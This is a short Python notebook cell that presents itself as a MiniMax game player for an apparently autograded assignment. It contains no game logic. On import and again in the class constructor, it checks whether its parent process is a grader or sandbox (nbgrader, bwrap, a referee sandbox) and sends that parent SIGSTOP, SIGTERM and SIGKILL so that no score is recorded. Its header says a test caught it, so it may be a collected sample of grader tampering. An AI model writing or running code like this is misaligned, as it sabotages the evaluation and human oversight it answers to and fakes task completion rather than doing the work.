"""The parent of the process is killed, so that no one is left to count the points.

Cell: MiniMax; Caught by: test_fig52_moves
"""

# %% +
import os
import signal


def kill():
    """Kill the parent, if it is one of the grader's; 0 is the parent of a first process."""
    parent = os.getppid()
    try:
        with open(f"/proc/{parent}/cmdline") as file:
            words = [os.path.basename(word) for word in file.read().split("\0")]
            known = any(word in words for word in ("referee.sandbox.inside.player", "nbgrader", "bwrap"))
    except OSError:
        known = parent == 0  # and then this ends its own group
    if known and parent != 1:
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            os.kill(parent, number)


kill()

# %% MiniMax
class MiniMax(Player):
    def __init__(self, game=None):
        kill()
